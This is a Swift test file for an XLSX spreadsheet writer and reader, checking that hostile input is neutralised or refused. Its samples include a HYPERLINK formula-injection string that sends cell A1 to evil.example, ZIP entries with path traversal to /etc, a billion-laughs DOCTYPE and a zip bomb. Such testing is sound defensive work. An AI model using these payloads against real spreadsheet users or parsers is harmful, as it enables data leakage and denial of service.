import Foundation
import Testing
import WholesailCore
import ZIPFoundation

@testable import WholesailServer

@Suite struct XLSXTests {
    static let injections = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Нажмите\")", "+1", "-1", "@SUM(A1:A2)", "\tTab", "=1+1",
    ]

    /// A price list like the portal exports: a title, a header, Cyrillic, money, dates and hostile text.
    static func priceList() -> XLSXWriter {
        var sheet = XLSXSheet(name: "Прайс-лист")
        sheet.columns = [
            XLSXColumn(width: 12), XLSXColumn(width: 40), XLSXColumn(width: 14, format: .money), XLSXColumn(width: 8),
            XLSXColumn(width: 12), XLSXColumn(width: 18), XLSXColumn(width: 8),
        ]
        sheet.addTitle("Прайс-лист ООО «Оптовик» на 29 ноября 2026 г.")
        sheet.addHeader(["Артикул", "Наименование", "Цена, ₽", "Кол-во", "Дата", "Обновлено", "Есть"])
        sheet.addRow([
            "А-001", "Болт М8×40 оцинкованный", .money(minorUnits: 1_234_50), .integer(120), .date(year: 2026, month: 11, day: 29),
            .dateTime(XLSXDateTime(year: 2026, month: 11, day: 29, hour: 10, minute: 30, second: 15)), .bool(true),
        ])
        sheet.addRow([
            "А-002", "Шайба 8 мм (упаковка 100 шт.)", .decimal("0.1"), .integer(-5), .date(year: 1900, month: 3, day: 1),
            .dateTime(XLSXDateTime(year: 2000, month: 2, day: 29, hour: 23, minute: 59, second: 59)), .bool(false),
        ])
        sheet.addRow(["А-003", "Ёмкость «Ёж» 5 л", .money(Money(minorUnits: -99, currency: "RUB")), .empty, .empty, "", ""])
        for text in injections { sheet.addRow(["INJ", .text(text)]) }
        sheet.addRow(["ctrl", "bell\u{7}and_x0041_literal"])
        var workbook = XLSXWriter(title: "Прайс-лист")
        workbook.addSheet(sheet)

        var second = XLSXSheet(name: "Прайс-лист")  // same name: made unique
        second.addHeader(["Ключ", "Значение"])
        second.addRow(["exact", .decimal("1234.50")])
        second.addRow(["big", .money(minorUnits: 12_345_678_901_234, scale: 2)])
        workbook.addSheet(second)
        return workbook
    }

    @Test("writer → reader round trip keeps Cyrillic, exact money, dates and hostile text as text")
    func roundTrip() throws {
        // Given
        let data = try Self.priceList().data()

        // When
        let reader = try XLSXReader(data: data)
        let rows = try reader.rows()

        // Then
        #expect(reader.sheetNames == ["Прайс-лист", "Прайс-лист (2)"])
        #expect(rows[0] == XLSXRow(number: 1, cells: ["Прайс-лист ООО «Оптовик» на 29 ноября 2026 г."]))
        #expect(rows[1].cells == ["Артикул", "Наименование", "Цена, ₽", "Кол-во", "Дата", "Обновлено", "Есть"])
        #expect(
            rows[2].cells == [
                "А-001", "Болт М8×40 оцинкованный", "1234.5", "120", "2026-11-29", "2026-11-29T10:30:15", "TRUE",
            ])
        #expect(
            rows[3].cells == [
                "А-002", "Шайба 8 мм (упаковка 100 шт.)", "0.1", "-5", "1900-03-01", "2000-02-29T23:59:59", "FALSE",
            ])
        #expect(rows[4].cells == ["А-003", "Ёмкость «Ёж» 5 л", "-0.99"])
        #expect(rows[5...].prefix(Self.injections.count).map { $0[1] } == Self.injections)
        #expect(rows.last?.cells == ["ctrl", "bell\u{7}and_x0041_literal"])
        #expect(rows.map(\.number) == Array(1...rows.count))

        let second = try reader.rows(sheet: "Прайс-лист (2)")
        #expect(second.map(\.cells) == [["Ключ", "Значение"], ["exact", "1234.5"], ["big", "123456789012.34"]])
    }

    @Test("hostile text is never a formula in the sheet XML, and carries Excel's quote prefix")
    func noFormulas() throws {
        let data = try Self.priceList().data()
        let archive = try Archive(data: data, accessMode: .read)
        var sheetXML = Data()
        _ = try archive.extract(try #require(archive["xl/worksheets/sheet1.xml"])) { sheetXML.append($0) }
        let xml = String(decoding: sheetXML, as: UTF8.self)
        #expect(!xml.contains("<f>") && !xml.contains("<f "))
        var styles = Data()
        _ = try archive.extract(try #require(archive["xl/styles.xml"])) { styles.append($0) }
        #expect(String(decoding: styles, as: UTF8.self).contains("quotePrefix=\"1\""))
    }

    @Test("numbers read as Excel shows them, without float noise", arguments: [
        ("0.1", "0.1"), ("0.10000000000000001", "0.1"), ("0.30000000000000004", "0.3"), ("1234.5", "1234.5"),
        ("1234.50", "1234.5"), ("1.5E-3", "0.0015"), ("2.5e3", "2500"), ("-0", "0"), ("100", "100"),
        ("123456789012345678", "123456789012346000"), ("0.99999999999999999", "1"), ("-12.340", "-12.34"),
        ("1E+20", "100000000000000000000"), ("abc", nil),
    ] as [(String, String?)])
    func canonicalNumbers(raw: String, expected: String?) {
        #expect(XLSXReader.canonicalNumber(raw) == expected)
    }

    @Test("date formats are recognised", arguments: [
        ("yyyy-mm-dd", false as Bool?), ("dd.mm.yyyy", false), ("d/m/yy h:mm", true), ("[$-419]d mmmm yyyy", false),
        ("#,##0.00", nil), ("0%", nil), ("\"d\"0", nil), ("General", nil), ("h:mm:ss", true), ("[Red]0.00", nil),
    ])
    func dateFormats(code: String, expected: Bool?) {
        #expect(XLSXReader.dateKind(ofFormat: code) == expected)
    }

    @Test("sheet names are made valid and unique")
    func sheetNames() {
        #expect(XLSXWriter.validName("a/b:c*?[d]", index: 0, taken: []) == "a_b_c___d_")
        #expect(XLSXWriter.validName(String(repeating: "Я", count: 40), index: 0, taken: []).count == 31)
        #expect(XLSXWriter.validName("Data", index: 1, taken: ["data"]) == "Data (2)")
        #expect(XLSXWriter.validName("  ", index: 2, taken: []) == "Sheet3")
    }

    @Test("a workbook of 20,000 rows streams through the reader")
    func manyRows() throws {
        var sheet = XLSXSheet(name: "Rows")
        sheet.addHeader(["n", "text", "amount"])
        for index in 0..<20_000 {
            sheet.addRow([.integer(Int64(index)), .text("строка \(index)"), .money(minorUnits: Int64(index) * 101)])
        }
        var workbook = XLSXWriter()
        workbook.addSheet(sheet)
        let reader = try XLSXReader(data: try workbook.data())
        var count = 0
        var last = XLSXRow(number: 0, cells: [])
        try reader.forEachRow { row in
            count += 1
            last = row
        }
        #expect(count == 20_001)
        #expect(last == XLSXRow(number: 20_001, cells: ["19999", "строка 19999", "20198.99"]))
    }

    @Test("a workbook written to a file reads back from the file")
    func fileRoundTrip() throws {
        let scratch = try ScratchDirectory()
        defer { scratch.remove() }
        let url = scratch.file("prices.xlsx")
        try Self.priceList().write(to: url)
        let rows = try XLSXReader(contentsOf: url).rows()
        #expect(rows.count == 12)
    }
}

/// Broken and malicious files, each refused with its own code before anything dangerous happens.
@Suite struct XLSXHostileTests {
    static let workbook = """
        <?xml version="1.0" encoding="UTF-8"?>
        <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" \
        xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">\
        <sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>
        """
    static let rels = """
        <?xml version="1.0" encoding="UTF-8"?>
        <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
        <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" \
        Target="worksheets/sheet1.xml"/></Relationships>
        """

    static func zip(_ entries: [(String, Data)], compressed: Bool = true) throws -> Data {
        let archive = try Archive(data: Data(), accessMode: .create)
        for (path, data) in entries {
            try archive.addEntry(
                with: path, type: .file, uncompressedSize: Int64(data.count), compressionMethod: compressed ? .deflate : .none
            ) { position, size in data.subdata(in: Int(position)..<Int(position) + size) }
        }
        return try #require(archive.data)
    }

    static func workbook(sheet: String) throws -> Data {
        try zip([
            ("xl/workbook.xml", Data(workbook.utf8)), ("xl/_rels/workbook.xml.rels", Data(rels.utf8)),
            ("xl/worksheets/sheet1.xml", Data(sheet.utf8)),
        ])
    }

    static func code(_ data: Data, limits: XLSXReader.Limits = .init()) -> String? {
        do {
            _ = try XLSXReader(data: data, limits: limits).rows()
            return nil
        } catch let error as DocumentError {
            return error.code
        } catch {
            return "unexpected: \(error)"
        }
    }

    @Test("a minimal hand-made workbook with inline strings reads")
    func minimal() throws {
        let data = try Self.workbook(
            sheet: """
                <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>\
                <row r="2"><c r="B2" t="inlineStr"><is><t>при&#x432;ет &amp; &lt;мир&gt;</t></is></c>\
                <c r="D2"><v>42</v></c></row><row><c t="str"><f>A1</f><v>cached</v></c></row></sheetData></worksheet>
                """)
        let rows = try XLSXReader(data: data).rows()
        #expect(rows == [XLSXRow(number: 2, cells: ["", "привет & <мир>", "", "42"]), XLSXRow(number: 3, cells: ["cached"])])
    }

    @Test("date cells by built-in and custom formats, in the 1900 and 1904 systems")
    func dates() throws {
        // Given styles: 0 General, 1 built-in 14 (date), 2 built-in 22 (date time), 3 custom dd.mm.yyyy, 4 custom 0.00
        let styles = """
            <styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">\
            <numFmts count="2"><numFmt numFmtId="170" formatCode="dd.mm.yyyy"/><numFmt numFmtId="171" formatCode="0.00"/></numFmts>\
            <cellStyleXfs count="1"><xf numFmtId="0"/></cellStyleXfs>\
            <cellXfs count="5"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="22"/><xf numFmtId="170"/><xf numFmtId="171"/></cellXfs>\
            </styleSheet>
            """
        let rels = Self.rels.replacingOccurrences(
            of: "</Relationships>",
            with: "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/></Relationships>")
        let sheet = """
            <worksheet><sheetData><row r="1"><c r="A1" s="1"><v>46355</v></c><c r="B1" s="2"><v>46355.4375</v></c>\
            <c r="C1" s="3"><v>1</v></c><c r="D1" s="4"><v>46355</v></c><c r="E1" s="0"><v>46355</v></c>\
            <c r="F1" s="2"><v>0.75</v></c></row></sheetData></worksheet>
            """
        func workbook(date1904: Bool) throws -> Data {
            let book = Self.workbook.replacingOccurrences(of: "<sheets>", with: date1904 ? "<workbookPr date1904=\"1\"/><sheets>" : "<sheets>")
            return try Self.zip([
                ("xl/workbook.xml", Data(book.utf8)), ("xl/_rels/workbook.xml.rels", Data(rels.utf8)),
                ("xl/styles.xml", Data(styles.utf8)), ("xl/worksheets/sheet1.xml", Data(sheet.utf8)),
            ])
        }

        // Then
        #expect(
            try XLSXReader(data: workbook(date1904: false)).rows().first?.cells == [
                "2026-11-29", "2026-11-29T10:30:00", "1900-01-01", "46355", "46355", "18:00:00",
            ])
        #expect(try XLSXReader(data: workbook(date1904: true)).rows().first?.cells.prefix(3) == ["2030-11-30", "2030-11-30T10:30:00", "1904-01-02"])
    }

    @Test("an empty file") func empty() {
        #expect(Self.code(Data()) == "xlsx.empty_file")
    }

    @Test("not a ZIP at all") func notZip() {
        #expect(Self.code(Data("Артикул;Цена\nA-1;10\n".utf8)) == "xlsx.not_xlsx")
        #expect(Self.code(Data(repeating: 0x50, count: 10)) == "xlsx.not_xlsx")
    }

    @Test("a ZIP that is not a workbook") func zipWithoutWorkbook() throws {
        #expect(Self.code(try Self.zip([("readme.txt", Data("hello".utf8))])) == "xlsx.missing_part")
    }

    @Test("a truncated workbook") func truncated() throws {
        let data = try XLSXTests.priceList().data()
        #expect(Self.code(data.prefix(data.count / 2)) == "xlsx.not_xlsx")
    }

    @Test("an entry with ../ in its path") func traversal() throws {
        let data = try Self.zip([("xl/workbook.xml", Data(Self.workbook.utf8)), ("../../etc/cron.d/evil", Data("x".utf8))])
        #expect(Self.code(data) == "xlsx.unsafe_path")
        let absolute = try Self.zip([("/etc/passwd", Data("x".utf8))])
        #expect(Self.code(absolute) == "xlsx.unsafe_path")
    }

    @Test("a DOCTYPE in the sheet XML (billion laughs)") func doctype() throws {
        let data = try Self.workbook(
            sheet: """
                <?xml version="1.0"?>
                <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
                <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>\
                <row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>
                """)
        #expect(Self.code(data) == "xlsx.doctype")
    }

    @Test("a zip bomb: one part inflating 1000-fold") func bomb() throws {
        let zeros = Data(count: 20_000_000)
        let data = try Self.zip([("xl/workbook.xml", Data(Self.workbook.utf8)), ("xl/worksheets/sheet1.xml", zeros)])
        #expect(data.count < 100_000)
        #expect(Self.code(data) == "xlsx.compression_ratio")
    }

    @Test("more uncompressed data than the limit") func tooLarge() throws {
        let noise = Data((0..<3_000_000).map { UInt8(truncatingIfNeeded: $0 &* 2_654_435_761 >> 13) })
        let data = try Self.zip([("a.bin", noise), ("b.bin", noise)], compressed: false)
        #expect(Self.code(data, limits: .init(maxUncompressedBytes: 5_000_000)) == "xlsx.too_large")
    }

    @Test("more entries than the limit") func tooManyEntries() throws {
        let data = try Self.zip((0..<30).map { ("part\($0).xml", Data("<a/>".utf8)) })
        #expect(Self.code(data, limits: .init(maxEntries: 20)) == "xlsx.too_many_entries")
    }

    @Test("an entry that inflates past the size its directory record declares") func lyingSize() throws {
        // Given a sheet whose central directory claims 100 bytes for 200 kB of XML
        let rows = String(repeating: "<row><c t=\"inlineStr\"><is><t>x</t></is></c></row>", count: 4000)
        let sheet = "<worksheet><sheetData>\(rows)</sheetData></worksheet>"
        var data = try Self.workbook(sheet: sheet)
        let signature: [UInt8] = [0x50, 0x4B, 0x01, 0x02]
        var patched = false
        var index = data.startIndex
        while let found = data[index...].firstRange(of: signature) {
            let nameLength = Int(data[found.lowerBound + 28]) | Int(data[found.lowerBound + 29]) << 8
            let name = String(decoding: data[(found.lowerBound + 46)..<(found.lowerBound + 46 + nameLength)], as: UTF8.self)
            if name == "xl/worksheets/sheet1.xml" {
                data.replaceSubrange((found.lowerBound + 24)..<(found.lowerBound + 28), with: [100, 0, 0, 0])
                patched = true
            }
            index = found.upperBound
        }
        #expect(patched)
        // Then
        #expect(Self.code(data) == "xlsx.malformed")
    }

    @Test("a sheet that does not exist") func missingSheet() throws {
        let data = try XLSXTests.priceList().data()
        #expect(throws: DocumentError.sheetNotFound("Нет такого")) { try XLSXReader(data: data).rows(sheet: "Нет такого") }
    }

    @Test("malformed sheet XML") func malformedXML() throws {
        let data = try Self.workbook(sheet: "<worksheet><sheetData><row><c r=\"A1\"><v>1</v></row>")
        #expect(Self.code(data) == "xlsx.malformed")
    }
}

/// The writer checked by a third party: openpyxl (the library most Python ERPs and scripts use).
@Suite struct XLSXOpenpyxlTests {
    static let script = #"""
        import json, sys, openpyxl
        wb = openpyxl.load_workbook(sys.argv[1])
        ws = wb.worksheets[0]
        cells = [[c.value for c in row] for row in ws.iter_rows()]
        print(json.dumps({
            "sheets": wb.sheetnames,
            "title": wb.properties.title,
            "freeze": ws.freeze_panes,
            "title_bold": bool(ws["A1"].font.b),
            "header_bold": [bool(c.font.b) for c in ws[2]],
            "body_bold": bool(ws["A3"].font.b),
            "formulas": [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"],
            "types": {c: ws[c].data_type for c in ["A3", "C3", "D3", "E3", "G3", "B6", "B7", "B8", "B9"]},
            "values": cells,
            "formats": {c: ws[c].number_format for c in ["C3", "D3", "E3", "F3"]},
            "fit": [bool(ws.sheet_properties.pageSetUpPr.fitToPage), ws.page_setup.fitToWidth, ws.page_setup.fitToHeight],
            "paper": ws.page_setup.paperSize,
            "print_titles": ws.print_title_rows,
            "widths": [ws.column_dimensions[c].width for c in "ABC"],
        }, default=str, ensure_ascii=False))
        """#

    @Test(
        "openpyxl reads the values, no formulas, the frozen pane, bold header, formats and print setup",
        .enabled(if: ExternalTool.shouldRunOpenpyxl(), "python3 with openpyxl is not installed (pip install openpyxl)"))
    func openpyxl() throws {
        // Given
        let scratch = try ScratchDirectory()
        defer { scratch.remove() }
        let url = scratch.file("prices.xlsx")
        try XLSXTests.priceList().write(to: url)

        // When
        let result = try ExternalTool.run("python3", ["-c", Self.script, url.path])
        #expect(result.status == 0, "\(result.stderr)")
        let json = try #require(try JSONSerialization.jsonObject(with: result.stdoutData) as? [String: Any])

        // Then
        #expect(json["sheets"] as? [String] == ["Прайс-лист", "Прайс-лист (2)"])
        #expect(json["title"] as? String == "Прайс-лист")
        #expect(json["freeze"] as? String == "A3")
        #expect(json["title_bold"] as? Bool == true)
        #expect(json["header_bold"] as? [Bool] == Array(repeating: true, count: 7))
        #expect(json["body_bold"] as? Bool == false)
        #expect(json["formulas"] as? [String] == [])
        #expect(
            json["types"] as? [String: String] == [
                "A3": "s", "C3": "n", "D3": "n", "E3": "d", "G3": "b", "B6": "s", "B7": "s", "B8": "s", "B9": "s",
            ])
        let values = try #require(json["values"] as? [[Any]])
        #expect(values[2][1] as? String == "Болт М8×40 оцинкованный")
        #expect((values[2][2] as? NSNumber)?.doubleValue == 1234.5)
        #expect(values[2][4] as? String == "2026-11-29 00:00:00")
        #expect(values[2][5] as? String == "2026-11-29 10:30:15")
        #expect(values[3][2] as? NSNumber == 0.1)
        #expect(values[5..<(5 + XLSXTests.injections.count)].map { $0[1] as? String } == XLSXTests.injections)
        #expect(json["formats"] as? [String: String] == ["C3": "#,##0.00", "D3": "0", "E3": "yyyy-mm-dd", "F3": "yyyy-mm-dd hh:mm"])
        #expect(json["fit"] as? [Int] == [1, 1, 0])
        #expect(json["paper"] as? Int == 9)
        #expect(json["print_titles"] as? String == "2:2" || json["print_titles"] as? String == "$2:$2")
        #expect(json["widths"] as? [Double] == [12, 40, 14])
    }
}

@Suite struct XMLScannerTests {
    @Test("a tag that never ends is refused once it passes the token cap, not rescanned forever")
    func endlessTag() throws {
        var scanner = XMLScanner()
        let chunk = [UInt8](repeating: UInt8(ascii: "a"), count: 64 * 1024)
        var fed = 0
        #expect(throws: XMLScanner.Failure.self) {
            try scanner.feed(Array("<worksheet><c r=\"".utf8)) { _ in }
            while fed < 2 * XMLScanner.maxTokenBytes {
                try scanner.feed(chunk) { _ in }
                fed += chunk.count
            }
        }
        #expect(fed <= XMLScanner.maxTokenBytes)
    }

    @Test("tokens split across chunks come out whole")
    func splitTokens() throws {
        let xml = Array("<?xml version=\"1.0\"?><a x='1 &amp; 2'><!-- c --><b>t&#x44f;</b><![CDATA[<raw>]]></a>".utf8)
        for size in 1...7 {
            var scanner = XMLScanner()
            var events: [String] = []
            let handle: (XMLScanner.Event) throws -> Void = { event in
                switch event {
                case .start(let name, let attributes, _): events.append("<\(name)\(attributes.map { " \($0.name)=\($0.value)" }.joined())>")
                case .end(let name): events.append("</\(name)>")
                case .text(let raw): events.append(try XMLScanner.decode(raw))
                case .cdata(let raw): events.append("cdata:" + String(decoding: raw, as: UTF8.self))
                }
            }
            var index = 0
            while index < xml.count {
                try scanner.feed(xml[index..<min(index + size, xml.count)], handle)
                index += size
            }
            try scanner.finish(handle)
            #expect(events == ["<a x=1 & 2>", "<b>", "tя", "</b>", "cdata:<raw>", "</a>"], "chunk size \(size)")
        }
    }
}
